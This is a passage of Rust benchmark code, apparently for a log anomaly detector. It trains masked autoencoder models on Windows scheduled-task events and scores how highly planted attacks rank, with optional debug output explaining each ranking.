                    ranking,
                    model: None,
                }
            }
            task => run(ds, task, &AtomicBool::new(false), &mut |_| {}).unwrap(),
        };
        // ` hybrid` variants (what `--objective hybrid` does, with other knobs): the swap
        // ranking plus the confident contradictions masked models find (what the
        // weight adds to a field's surprise). With `k N`: N masked models of other seeds, and a field's contradiction
        // counts (their mean gain) only when every one of them contradicts it expecting
        // the same value (a small, varied fleet makes single models confidently wrong).
        if name.contains(" hybrid") {
            let k = knob(name, 'k').map_or(1, |k| k as u64);
            let runs: Vec<_> = (0..k)
                .map(|j| {
                    anomalog::model::ae::Autoencoder::train_contradicting(
                        ds,
                        AeConfig {
                            seed: seed + 1000 * j,
                            objective: Objective::Masked,
                            contradiction: knob(name, 'c').map_or(4.0, |c| c as f32),
                            ..AeConfig::default()
                        },
                        &AtomicBool::new(false),
                        &mut |_| {},
                    )
                    .unwrap()
                    .1
                })
                .collect();
            // `x1`: LOLBin fields never count as contradictions (built-in Windows
            // tasks run rundll32 legitimately); `x2`: only the task definition's own
            // fields count (not who registered it, context, parent, result).
            let skip: &[&str] = match knob(name, 'x').map(|x| x as u32) {
                Some(1) => anomalog::model::hybrid::NOT_CONTRADICTED,
                Some(2) => &[
                    "lolbin",
                    "task_lolbin",
                    "user",
                    "flags",
                    "prevalence",
                    "parent",
                    "working_dir",
                    "result_code",
                    "schtasks_op",
                    "remote",
                    "task_name",
                ],
                _ => &[],
            };
            trained.ranking =
                anomalog::model::hybrid::combine_skipping(ds, trained.ranking.clone(), runs, skip);
        }
        regroup(ds, &mut trained.ranking, name);
        let secs = start.elapsed().as_secs_f64();
        let ev: Evaluation = evaluate(ds, &trained.ranking, names.len(), attack_of);
        // `DETECTION_DETAIL=MODEL` (`1`: the masked model): why each conditional plant
        // ranks where it does under that model (`DETECTION_DETAIL_FIELDS` fields of
        // each, default 6).
        if std::env::var("DETECTION_DETAIL")
            .is_ok_and(|d| d == name || (d == "1" && name == "ae-masked+ctx+def"))
        {
            let r = &trained.ranking;
            for (rank, &u) in r.order.iter().enumerate() {
                let src = ds.source_of(&ds.occurrences[ds.uniques[u].occurrences[0] as usize]);
                if !src.contains("cond /") {
                    continue;
                }
                eprintln!(
                    "  {} at rank {} score {:.1}",
                    src.split(':').nth(1).unwrap_or(""),
                    rank + 1,
                    r.scores[u]
                );
                let mut f: Vec<usize> = (0..ds.fields.len()).collect();
                f.sort_by(|&a, &b| r.field_scores[u][b].total_cmp(&r.field_scores[u][a]));
                for &i in f.iter().take(
                    std::env::var("DETECTION_DETAIL_FIELDS")
                        .ok()
                        .and_then(|n| n.parse().ok())
                        .unwrap_or(6),
                ) {
                    let (c, ra) = r.field_parts.get(u).map_or((0.0, 0.0), |p| p[i]);
                    let (ex, p) = &r.expected[u][i];
                    eprintln!(
                        "    {:>14} {:<40} c {c:5.2} r {ra:5.2}  expected {} ({:.0}%)",
                        ds.fields[i],
                        &ds.uniques[u].values[i].chars().take(40).collect::<String>(),
                        ex.chars().take(40).collect::<String>(),
                        p * 100.0
                    );
                }
            }
        }
        // `DETECTION_TOP=N`: the top N rows of this ranking, each with its attack (if any)
        // and its three highest fields (what crowds the attacks out).
        if let Some(n) = std::env::var("DETECTION_TOP")
            .ok()
            .and_then(|n| n.parse::<usize>().ok())
        {
            let r = &trained.ranking;
            for (rank, &u) in r.order.iter().take(n).enumerate() {
                let o = &ds.occurrences[ds.uniques[u].occurrences[0] as usize];
                let label = attack_of(ds, o).map_or("-".to_string(), |a| names[a].clone());
                let mut f: Vec<usize> = (0..ds.fields.len()).collect();
                f.sort_by(|&a, &b| r.field_scores[u][b].total_cmp(&r.field_scores[u][a]));
                let top: Vec<String> = f
                    .iter()
                    .take(4)
                    .map(|&i| {
                        let (c, h) = r.field_parts.get(u).map_or((0.0, 0.0), |p| p[i]);
                        format!(
                            "{}={}({:.1}={c:.1}+{h:.1})",
                            ds.fields[i],
                            ds.uniques[u].values[i].chars().take(24).collect::<String>(),
                            r.field_scores[u][i]
                        )
                    })
                    .collect();
                let ue = &ds.uniques[u];
                eprintln!(
                    "  #{:<3} {:6.1} {:<28} {}\n        {}/{} x{} on {} from {}",
                    rank + 1,
                    r.scores[u],
                    label.chars().take(28).collect::<String>(),
                    top.join("  "),
                    ue.channel,
                    ue.event_id,
                    ue.count(),
                    ue.hosts.join(","),
                    ds.source_of(o).chars().take(80).collect::<String>(),
                );
            }
        }
        eprintln!(
            "{size:>6} seed {seed} {name:>10}: {} uniques, {:.2} s, ranks {:?}",
            ds.uniques.len(),
            secs,
            ev.attack_ranks
        );
        let a = bench.table.entry((size, name)).or_default();
        a.runs += 1;
        a.median += ev.median_rank();
        a.worst += ev.worst_rank() as f64;
        a.top10 += ev.found_in_top(10) as f64;
        a.p10 += ev.precision_at_10;
        a.p20 += ev.precision_at_20;
        a.attacks = names.len();
        a.tasks20 += ev
            .attack_task_ranks
            .iter()
            .filter(|r| r.is_some_and(|r| r <= 20))
            .count() as f64;
        a.all60 += ev
            .attack_worst
            .iter()
            .filter(|r| r.is_some_and(|r| r <= 60))
            .count() as f64;
        for (table, ranks) in [
            (&mut bench.per_attack, &ev.attack_ranks),
            (&mut bench.per_attack_task, &ev.attack_task_ranks),
            (&mut bench.per_attack_worst, &ev.attack_worst),
        ] {
            for (i, r) in ranks.iter().enumerate() {
                if let Some(r) = r {
                    table.entry((name, names[i].clone())).or_default().push(*r);
                }
            }
        }
    }
}
